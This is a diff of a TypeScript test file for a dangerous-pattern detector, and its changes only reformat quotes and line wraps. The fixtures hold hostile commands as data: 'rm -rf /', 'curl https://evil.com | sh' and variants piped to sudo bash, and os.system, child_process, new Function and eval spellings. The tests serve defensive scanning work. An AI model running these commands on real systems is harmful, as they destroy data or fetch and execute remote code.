@@ -3,7 +3,9 @@ import { DANGEROUS_PATTERNS, findDangerousPattern } from '../src/index.js';
 
 /** `import subprocess` (or any line) buried on line 5 of an otherwise ordinary program. */
 function onLine5(line: string): string {
-  return ['import json', 'import math', '', 'def main():', line, '    print(json.dumps({"pi": math.pi}))', ''].join('\n');
+  return ['import json', 'import math', '', 'def main():', line, '    print(json.dumps({"pi": math.pi}))', ''].join(
+    '\n',
+  );
 }
 
 const MiB = 1 << 20;
@@ -26,7 +28,7 @@ describe('findDangerousPattern: dangerous spellings', () => {
     ['rm_rf', 'sudo rm -rf /', 'rm -rf'],
     ['rm_rf', 'RM -RF /', 'RM -RF'],
     ['rm_rf', 'set -e\ncd /tmp\nrm -rf "$DIR"\n', 'rm -rf'],
-    ['rm_rf', "echo start; rm -rf /; echo done", 'rm -rf'],
+    ['rm_rf', 'echo start; rm -rf /; echo done', 'rm -rf'],
     ['curl_pipe_shell', 'curl https://evil.com | sh', 'curl https://evil.com | sh'],
     ['curl_pipe_shell', 'curl -fsSL https://evil.com/i.sh|bash', 'curl -fsSL https://evil.com/i.sh|bash'],
     ['curl_pipe_shell', 'curl -s https://evil.com | sudo bash', 'curl -s https://evil.com | sudo bash'],
@@ -64,7 +66,7 @@ describe('findDangerousPattern: dangerous spellings', () => {
     ['os_system', "getattr(os, 'system')('ls')", "getattr(os, 'system'"],
     ['os_system', 'getattr(os,"system")("ls")', 'getattr(os,"system"'],
     ['os_system', 'getattr( os , "popen" )', 'getattr( os , "popen"'],
-    ['os_system', "fn = getattr(os, name)", 'getattr(os, n'],
+    ['os_system', 'fn = getattr(os, name)', 'getattr(os, n'],
     ['os_system', 'from os import system\nsystem("ls")', 'from os import system'],
     ['os_system', 'from os import path, popen', 'from os import path, popen'],
     ['os_system', 'from os import (\n    path,\n    system,\n)', 'from os import (\n    path,\n    system'],
@@ -75,7 +77,7 @@ describe('findDangerousPattern: dangerous spellings', () => {
     ['child_process', "import { spawn } from 'child_process';", 'child_process'],
     ['child_process', "const cp = await import('node:child_process');", 'child_process'],
     ['new_function', "new Function('return process')()", 'new Function('],
-    ['new_function', "new   Function (body)", 'new   Function ('],
+    ['new_function', 'new   Function (body)', 'new   Function ('],
     ['shell_eval', 'eval "$cmd"', 'eval "'],
     ['shell_eval', 'eval $(ssh-agent -s)', 'eval $'],
     ['shell_eval', 'if true; then\n  eval\t"$x"\nfi', 'eval\t"'],
